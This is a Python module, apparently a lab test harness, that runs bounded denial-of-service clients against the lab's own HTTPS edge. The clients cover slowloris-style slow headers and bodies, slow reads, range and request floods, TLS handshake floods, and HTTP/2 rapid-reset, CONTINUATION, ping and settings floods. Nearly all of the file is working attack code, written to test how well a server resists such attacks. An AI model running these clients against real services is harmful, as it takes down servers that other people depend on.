"""Clients that do an edge harm, each in its own way, and one that is honest beside them.

Every attacker is bounded: so many connections, so many seconds, and to a lab's own host only. They run in a process of
their own, since an attack that shares its interpreter with the honest client would slow that one down by itself.
"""

from __future__ import annotations

import asyncio
import functools
import json
import ssl
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import asdict, dataclass

from debian import REPOSITORY, run

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
FRAMES = 100  # of an HTTP/2 flood before it waits for the other side


@dataclass(frozen=True)
class Target:
    """What is attacked.

    Args:
        address: the edge.
        name: an app's host name.
        file: a static file of the app that is not small.
    """

    address: str
    name: str
    file: str


@dataclass(frozen=True)
class Attack:
    """One attack: its kind, from which addresses, with how many connections in all, and for how many seconds."""

    kind: str
    target: Target
    sources: tuple[str, ...]
    connections: int
    seconds: float


@dataclass
class Held:
    """What became of an attack's connections: seconds that each was open, answers by status, refusals."""

    seconds: list[float]
    answers: dict[str, int]
    refused: int


@functools.cache
def _context(alpn: tuple[str, ...]) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(list(alpn))
    return context


async def _open(attack: Attack, number: int, alpn: Sequence[str] = ("http/1.1",)) -> Streams:
    context = _context(tuple(alpn))
    source = attack.sources[number % len(attack.sources)]
    return await asyncio.open_connection(
        attack.target.address, 443, ssl=context, server_hostname=attack.target.name, local_addr=(source, 0)
    )


async def _until_closed(reader: asyncio.StreamReader, answers: Counter[str]) -> None:
    while data := await reader.read(65536):
        if data.startswith(b"HTTP/1."):
            answers[data.split(b" ", 2)[1].decode()] += 1


async def _drip(writer: asyncio.StreamWriter, piece: bytes, pause: float = 1) -> None:
    while True:
        writer.write(piece)
        await writer.drain()
        await asyncio.sleep(pause)


async def _both(one: Awaitable[None], other: Awaitable[None]) -> None:
    tasks = [asyncio.ensure_future(one), asyncio.ensure_future(other)]
    try:
        await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def _no_handshake(attack: Attack, number: int, answers: Counter[str]) -> None:
    source = attack.sources[number % len(attack.sources)]
    reader, _ = await asyncio.open_connection(attack.target.address, 443, local_addr=(source, 0))
    await _until_closed(reader, answers)


async def _idle(attack: Attack, number: int, answers: Counter[str]) -> None:
    reader, _ = await _open(attack, number)
    await _until_closed(reader, answers)


async def _idle_h2(attack: Attack, number: int, answers: Counter[str]) -> None:
    reader, writer = await _open(attack, number, ["h2"])
    writer.write(PREFACE)
    await _until_closed(reader, answers)


async def _slow_headers(attack: Attack, number: int, answers: Counter[str]) -> None:
    reader, writer = await _open(attack, number)
    writer.write(f"GET / HTTP/1.1\r\nHost: {attack.target.name}\r\n".encode())
    await _both(_until_closed(reader, answers), _drip(writer, b"X-A: b\r\n"))


async def _slow_body(attack: Attack, number: int, answers: Counter[str]) -> None:
    reader, writer = await _open(attack, number)
    head = f"POST / HTTP/1.1\r\nHost: {attack.target.name}\r\nContent-Length: 9000000\r\n\r\n"
    writer.write(head.encode() + b"x" * 30000)
    await _both(_until_closed(reader, answers), _drip(writer, b"x"))


async def _slow_read(attack: Attack, number: int, answers: Counter[str]) -> None:
    reader, writer = await _open(attack, number)
    writer.write(f"GET {attack.target.file} HTTP/1.1\r\nHost: {attack.target.name}\r\n\r\n".encode() * 20)
    while data := await reader.read(64):
        answers.update([data[9:12].decode()] if data.startswith(b"HTTP/1.1 ") else [])
        await asyncio.sleep(1)


async def _slow_handshake(attack: Attack, number: int, answers: Counter[str]) -> None:
    """Send a ClientHello byte by byte."""
    source = attack.sources[number % len(attack.sources)]
    reader, writer = await asyncio.open_connection(attack.target.address, 443, local_addr=(source, 0))
    writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    await _both(_until_closed(reader, answers), _drip(writer, b"x"))


async def _small_body(attack: Attack, number: int, answers: Counter[str]) -> None:
    """Send a body that is small enough for one buffer, and is never whole."""
    reader, writer = await _open(attack, number)
    head = f"POST / HTTP/1.1\r\nHost: {attack.target.name}\r\nContent-Length: 9000\r\n\r\n"
    writer.write(head.encode())
    await _both(_until_closed(reader, answers), _drip(writer, b"x"))


async def _chunks(attack: Attack, number: int, answers: Counter[str]) -> None:
    reader, writer = await _open(attack, number)
    head = f"POST / HTTP/1.1\r\nHost: {attack.target.name}\r\nTransfer-Encoding: chunked\r\n\r\n"
    writer.write(head.encode())
    await _both(_until_closed(reader, answers), _drip(writer, b"1\r\nx\r\n"))


async def _upgrade(attack: Attack, number: int, answers: Counter[str]) -> None:
    """Ask what a websocket asks, and say nothing more."""
    reader, writer = await _open(attack, number)
    asked = f"GET / HTTP/1.1\r\nHost: {attack.target.name}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    asked += "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    writer.write(asked.encode())
    await _until_closed(reader, answers)


async def _kept_alive(attack: Attack, number: int, answers: Counter[str]) -> None:
    """One request, and no other one."""
    reader, writer = await _open(attack, number)
    writer.write(f"GET /-/version HTTP/1.1\r\nHost: {attack.target.name}\r\n\r\n".encode())
    await _until_closed(reader, answers)


async def _slow_pages(attack: Attack, number: int, answers: Counter[str]) -> None:
    """As slow reads, of pages that the app itself makes."""
    reader, writer = await _open(attack, number)
    writer.write(f"GET / HTTP/1.1\r\nHost: {attack.target.name}\r\n\r\n".encode() * 20)
    while data := await reader.read(64):
        answers.update([data[9:12].decode()] if data.startswith(b"HTTP/1.1 ") else [])
        await asyncio.sleep(1)


async def _ranges(attack: Attack, number: int, answers: Counter[str]) -> None:
    """Many ranges of one file, over and over."""
    reader, writer = await _open(attack, number)
    ranges = ",".join(f"{start}-{start + 1}" for start in range(0, 3000, 3))
    asked = f"GET {attack.target.file} HTTP/1.1\r\nHost: {attack.target.name}\r\nRange: bytes={ranges}\r\n\r\n"
    writer.write(asked.encode() * 5)
    await _until_closed(reader, answers)


async def _big_headers(attack: Attack, number: int, answers: Counter[str]) -> None:
    reader, writer = await _open(attack, number)
    writer.write(f"GET / HTTP/1.1\r\nHost: {attack.target.name}\r\nX-A: {'a' * 60000}\r\n\r\n".encode())
    await _until_closed(reader, answers)


async def _new_connections(attack: Attack, number: int, answers: Counter[str]) -> None:
    """Open connections that are closed as soon as they are there."""
    source = attack.sources[number % len(attack.sources)]
    while True:
        _, writer = await asyncio.open_connection(attack.target.address, 443, local_addr=(source, 0))
        writer.transport.abort()


async def _new_sessions(attack: Attack, number: int, answers: Counter[str]) -> None:
    """Do the same with a whole TLS handshake, which costs the edge more than it costs us."""
    while True:
        _, writer = await _open(attack, number)
        writer.transport.abort()


async def _large_bodies(attack: Attack, number: int, answers: Counter[str]) -> None:
    """Bodies that an app takes, as fast as they are taken."""
    reader, writer = await _open(attack, number)
    head = f"POST / HTTP/1.1\r\nHost: {attack.target.name}\r\nContent-Length: 9000000\r\n\r\n"
    writer.write(head.encode())

    async def send() -> None:
        for _ in range(90):
            writer.write(b"x" * 100_000)
            await writer.drain()
        await asyncio.sleep(60)

    await _both(_until_closed(reader, answers), send())


async def _files(attack: Attack, number: int, answers: Counter[str]) -> None:
    reader, writer = await _open(attack, number)
    while True:
        writer.write(f"GET {attack.target.file} HTTP/1.1\r\nHost: {attack.target.name}\r\n\r\n".encode())
        answers[await _answer(reader)] += 1


async def _answer(reader: asyncio.StreamReader) -> str:
    """Read one answer; return its status."""
    head = await reader.readuntil(b"\r\n\r\n")
    length = next(int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
    await reader.readexactly(length)
    return head[9:12].decode()


async def _requests(attack: Attack, number: int, answers: Counter[str]) -> None:
    reader, writer = await _open(attack, number)
    asked = f"GET / HTTP/1.1\r\nHost: {attack.target.name}\r\n\r\n".encode()
    while True:
        writer.write(asked)
        answers[await _answer(reader)] += 1


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _headers_frame(name: str, stream: int) -> bytes:
    """Return a GET of / in HPACK: three entries of its static table, and the authority as it is."""
    return _frame(1, 5, stream, b"\x82\x84\x87\x01" + bytes([len(name)]) + name.encode())


async def _h2_flood(attack: Attack, number: int, answers: Counter[str], reset: bool) -> None:
    reader, writer = await _open(attack, number, ["h2"])
    writer.write(PREFACE)

    async def send() -> None:
        for stream in range(1, 2**20, 2):
            writer.write(_headers_frame(attack.target.name, stream))
            if reset:
                writer.write(_frame(3, 0, stream, (8).to_bytes(4, "big")))
            if stream % (2 * FRAMES) == 1:
                await writer.drain()
                await asyncio.sleep(0)

    await _both(_until_closed(reader, answers), send())


async def _h2_continuations(attack: Attack, number: int, answers: Counter[str]) -> None:
    """Send a header that does not end, in small frames."""
    reader, writer = await _open(attack, number, ["h2"])
    writer.write(PREFACE + _frame(1, 1, 1, b"\x82\x84\x87"))

    async def send() -> None:
        for count in range(2**20):
            writer.write(_frame(9, 0, 1, b"\x00\x01a\x01b"))
            if count % FRAMES == 0:
                await writer.drain()
                await asyncio.sleep(0)

    await _both(_until_closed(reader, answers), send())


async def _h2_frames(attack: Attack, number: int, answers: Counter[str], frame: bytes) -> None:
    """Send the same small frame over and over; each asks for an answer."""
    reader, writer = await _open(attack, number, ["h2"])
    writer.write(PREFACE)

    async def send() -> None:
        while True:
            writer.write(frame * FRAMES)
            await writer.drain()
            await asyncio.sleep(0)

    await _both(_until_closed(reader, answers), send())


async def _h2_pings(attack: Attack, number: int, answers: Counter[str]) -> None:
    await _h2_frames(attack, number, answers, _frame(6, 0, 0, bytes(8)))


async def _h2_settings(attack: Attack, number: int, answers: Counter[str]) -> None:
    await _h2_frames(attack, number, answers, _frame(4, 0, 0, b""))


async def _h2_no_window(attack: Attack, number: int, answers: Counter[str]) -> None:
    """Ask for answers, no byte of which may be sent."""
    reader, writer = await _open(attack, number, ["h2"])
    writer.write(PREFACE + _frame(4, 0, 0, b"\x00\x04" + bytes(4)))
    writer.write(b"".join(_headers_frame(attack.target.name, stream) for stream in range(1, 41, 2)))
    await _until_closed(reader, answers)


async def _h2_streams(attack: Attack, number: int, answers: Counter[str]) -> None:
    await _h2_flood(attack, number, answers, reset=False)


async def _h2_resets(attack: Attack, number: int, answers: Counter[str]) -> None:
    await _h2_flood(attack, number, answers, reset=True)


KINDS: dict[str, Callable[[Attack, int, Counter[str]], Awaitable[None]]] = {
    "no TLS handshake": _no_handshake,
    "idle TLS": _idle,
    "idle HTTP/2": _idle_h2,
    "slow handshake": _slow_handshake,
    "slow headers": _slow_headers,
    "slow bodies": _slow_body,
    "small slow bodies": _small_body,
    "chunks that trickle": _chunks,
    "upgrades": _upgrade,
    "kept alive": _kept_alive,
    "slow reads": _slow_read,
    "slow reads of pages": _slow_pages,
    "ranges": _ranges,
    "big headers": _big_headers,
    "large bodies": _large_bodies,
    "request flood": _requests,
    "file flood": _files,
    "new connections": _new_connections,
    "new TLS sessions": _new_sessions,
    "HTTP/2 streams": _h2_streams,
    "HTTP/2 resets": _h2_resets,
    "HTTP/2 continuations": _h2_continuations,
    "HTTP/2 pings": _h2_pings,
    "HTTP/2 settings": _h2_settings,
    "HTTP/2 without a window": _h2_no_window,
}
AGAIN = (
    "ranges",
    "big headers",
    "large bodies",
    "request flood",
    "file flood",
    "new connections",
    "new TLS sessions",
    "HTTP/2 streams",
    "HTTP/2 resets",
    "HTTP/2 continuations",
    "HTTP/2 pings",
    "HTTP/2 settings",
)  # when one ends, the next one is opened


async def _attack(attack: Attack) -> Held:
    held, answers, refused, until = [], Counter[str](), 0, time.monotonic() + attack.seconds

    async def one(number: int) -> None:
        nonlocal refused
        while (left := until - time.monotonic()) > 0:
            began = time.monotonic()
            try:
                await asyncio.wait_for(KINDS[attack.kind](attack, number, answers), left)
            except (OSError, asyncio.IncompleteReadError, ValueError):
                pass
            except TimeoutError:
                held.append(time.monotonic() - began)
                return
            took = time.monotonic() - began
            if took < 0.5:
                refused += 1
            else:
                held.append(took)
            if attack.kind not in AGAIN:
                return
            await asyncio.sleep(0.2)

    await asyncio.gather(*(one(number) for number in range(attack.connections)))
    return Held([round(seconds, 1) for seconds in held], dict(answers), refused)


@contextmanager
def attacked(attack: Attack, nice: int = 19) -> Iterator[Callable[[], Held]]:
    """Attack while the body runs.

    Args:
        attack: the attack.
        nice: the attackers' place in the line for the processor: last, since real ones bring their own.

    Yields:
        A function that waits for the attack's end, and answers what became of it.
    """
    command = ["nice", "-n", str(nice), sys.executable, "-m", "lab.abuse", json.dumps(asdict(attack))]
    environment = {"PYTHONPATH": f"{REPOSITORY}:{REPOSITORY / 'bin'}", "PATH": "/usr/sbin:/usr/bin:/sbin:/bin"}
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, env=environment, cwd=REPOSITORY
    )
    try:
        yield lambda: Held(**json.loads(process.communicate(timeout=attack.seconds + 60)[0]))
    finally:
        process.kill()
        process.wait()


@contextmanager
def addresses(bridge: str, wanted: Sequence[str]) -> Iterator[None]:
    """Give this machine more addresses in a lab's network while the body runs."""
    try:
        for address in wanted:
            run(["ip", "address", "replace", f"{address}/32", "dev", bridge])
        yield
    finally:
        for address in wanted:
            subprocess.run(
                ["ip", "address", "delete", f"{address}/32", "dev", bridge], check=False, capture_output=True
            )


def main() -> None:
    """Carry out the attack that is the only argument, and print what became of it."""
    told = json.loads(sys.argv[1])
    told |= {"target": Target(**told["target"]), "sources": tuple(told["sources"])}
    print(json.dumps(asdict(asyncio.run(_attack(Attack(**told))))))


if __name__ == "__main__":
    main()


__all__ = ["KINDS", "Attack", "Held", "Target", "addresses", "attacked"]
